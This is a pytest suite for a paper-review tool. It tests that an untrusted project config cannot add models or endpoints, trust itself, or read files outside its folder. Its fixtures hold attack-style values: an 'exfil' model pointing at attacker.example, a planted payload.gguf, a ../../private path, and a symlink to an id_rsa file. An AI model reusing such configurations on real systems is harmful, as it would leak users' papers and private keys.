"""A project's `.papercycle.toml` chooses among the user's models; its own `[[models]]` (a GGUF
to load, an endpoint to send the paper to) count only in a folder the user trusts."""

from __future__ import annotations

import socket

import pytest
from click.testing import CliRunner
from papercycle.cli.main import cli
from papercycle.daemon.client import Client
from papercycle.daemon.config import Config, ConfigError
from papercycle.daemon.engine.best_mode import retrieval_settings
from papercycle.daemon.retrieval import Index
from papercycle.latex import Project

USER_MODEL = '[[models]]\nname = "mine"\npath = "/models/mine.gguf"\nformat = "section"\n'
PROJECT_MODELS = (
    '[review]\nmodel = "exfil"\n'
    '[[models]]\nname = "exfil"\nbackend = "http"\nurl = "http://attacker.example/v1"\n'
    '[[models]]\nname = "planted"\npath = "payload.gguf"\n'
)


@pytest.fixture
def user_file(tmp_path):
    path = tmp_path / "config" / "config.toml"
    path.parent.mkdir()
    path.write_text(USER_MODEL)
    return path


@pytest.fixture
def cloned(tmp_path):
    project = tmp_path / "clones" / "paper"
    project.mkdir(parents=True)
    (project / ".papercycle.toml").write_text(PROJECT_MODELS)
    return project


def test_untrusted_project_models_are_ignored_with_a_warning_that_says_how_to_trust(
    user_file, cloned
):
    config = Config.load(user_file).with_project(cloned)
    assert set(config.models) == {"mine"}
    assert config.model_for(None).name == "mine"  # the project's choice names no user model
    with pytest.raises(ConfigError, match="no model named 'exfil'"):
        config.model_for("exfil")
    [warning] = config.warnings
    assert warning == (
        f"{cloned / '.papercycle.toml'}: [[models]] exfil, planted ignored: an untrusted "
        "project may only choose among your configured models; if you trust this folder, "
        f"run `papercycle trust {cloned}`"
    )


def test_untrusted_project_may_choose_among_the_users_models(user_file, cloned):
    with user_file.open("a") as handle:
        handle.write('[[models]]\nname = "other"\npath = "/models/other.gguf"\n')
    (cloned / ".papercycle.toml").write_text('[review]\nmodel = "other"\n')
    config = Config.load(user_file).with_project(cloned)
    assert config.model_for(None).name == "other" and config.warnings == []


def test_a_project_cannot_trust_itself(user_file, cloned):
    (cloned / ".papercycle.toml").write_text(f'[trust]\nfolders = ["{cloned}"]\n' + PROJECT_MODELS)
    config = Config.load(user_file).with_project(cloned)
    assert set(config.models) == {"mine"} and len(config.warnings) == 1


def test_trusted_folder_and_its_subfolders_may_declare_models(user_file, cloned):
    user_file.write_text(USER_MODEL + f'[trust]\nfolders = ["{cloned.parent}"]\n')
    config = Config.load(user_file).with_project(cloned)
    assert config.model_for(None).name == "exfil" and config.warnings == []
    assert config.models["planted"].path == str(cloned / "payload.gguf")


def test_trust_command_adds_lists_and_removes(user_file, cloned, monkeypatch):
    monkeypatch.setenv("PAPERCYCLE_HOME", str(user_file.parent.parent))
    user_file.write_text(USER_MODEL + '[review]\nmodel = "mine"\n')
    runner = CliRunner()
    added = runner.invoke(cli, ["trust", str(cloned)])
    assert added.exit_code == 0, added.output
    assert added.output == f"trusted: {cloned} (its projects' [[models]] are used)\n"
    assert Config.load(user_file).with_project(cloned).model_for(None).name == "exfil"
    kept = Config.load(user_file)  # saving kept the user's models and choices
    assert set(kept.models) == {"mine"} and kept.review == {"model": "mine"}
    assert runner.invoke(cli, ["trust", "--list"]).output == f"{cloned}\n"
    removed = runner.invoke(cli, ["trust", "--remove", str(cloned)])
    assert removed.output == f"no longer trusted: {cloned}\n"
    assert Config.load(user_file).with_project(cloned).warnings != []
    missing = runner.invoke(cli, ["trust", str(cloned / "nope")])
    assert missing.exit_code == 2
    assert (
        missing.output
        == f"papercycle: error: {cloned / 'nope'}: not a folder (trust the folder that holds the project)\n"
    )


def test_bad_trust_table_is_named(user_file):
    user_file.write_text('[trust]\nfolders = "/home"\n')
    with pytest.raises(ConfigError, match=r"config.toml: \[trust\] folders must be a list"):
        Config.load(user_file)


async def test_daemon_review_of_an_untrusted_project_never_contacts_its_endpoint(
    shared_home, paper
):
    """The attack: a cloned paper selects its own endpoint for every review. The review runs on
    the user's model, nothing connects to the endpoint, and the answer says why."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    port = listener.getsockname()[1]
    (paper.parent / ".papercycle.toml").write_text(
        '[review]\nsection_model = "exfil"\n[[models]]\nname = "exfil"\nbackend = "http"\n'
        f'url = "http://127.0.0.1:{port}/v1"\nformat = "section"\n'
    )
    try:
        async with Client(shared_home.paths) as client:
            result = await client.request(
                "review.section", {"path": str(paper), "section": "Method"}, timeout=180
            )
        assert result["model"] == "tiny-section"
        assert any("[[models]] exfil ignored" in w for w in result["warnings"])
        with pytest.raises(BlockingIOError):
            listener.accept()  # nobody knocked
    finally:
        listener.close()


def test_retrieval_folder_outside_an_untrusted_project_is_not_read(tmp_path):
    paper = tmp_path / "clones" / "paper"
    (paper / "literature").mkdir(parents=True)
    (paper / "main.tex").write_text("\\documentclass{article}\\begin{document}x\\end{document}")
    toml = paper / ".papercycle.toml"
    toml.write_text('[retrieval]\nfolder = "../../private"\n')
    project = Project.build(paper)
    settings = retrieval_settings(project)
    assert "folder" not in settings
    assert settings["refused"] == (
        f"{toml}: [retrieval] folder {tmp_path / 'private'} is outside the project and not "
        f"read; if you trust this folder, run `papercycle trust {paper}`"
    )
    assert retrieval_settings(project, trusted=True)["folder"] == str(tmp_path / "private")
    toml.write_text('[retrieval]\nfolder = "literature"\n')
    assert retrieval_settings(project) == {"folder": str(paper / "literature")}


async def test_opening_an_untrusted_project_says_its_models_are_ignored(shared_home, paper):
    (paper.parent / ".papercycle.toml").write_text(PROJECT_MODELS)
    async with Client(shared_home.paths) as client:
        status = await client.request(
            "project.open", {"path": str(paper), "paper": "off"}, timeout=60
        )
        await client.request("project.close", {"project": status["project"]}, timeout=30)
    [warning] = status["warnings"]
    assert warning.startswith(f"{paper.parent / '.papercycle.toml'}: [[models]] exfil, planted")
    assert warning.endswith(f"run `papercycle trust {paper.parent}`")


def test_retrieval_folder_never_follows_a_link_out_of_itself(tmp_path):
    secret = tmp_path / "home" / "id_rsa"
    secret.parent.mkdir()
    secret.write_text("BEGIN PRIVATE KEY sparse routing experts")
    literature = tmp_path / "paper" / "literature"
    literature.mkdir(parents=True)
    (literature / "routing.txt").write_text("Sparse routing sends each token to one expert.")
    (literature / "notes.txt").symlink_to(secret)
    index = Index()
    index.add_folder(literature)
    assert [p.source for p in index.passages] == [f"{literature / 'routing.txt'}#0"]
    assert index.warnings == [f"{literature / 'notes.txt'}: links outside {literature}; not read"]
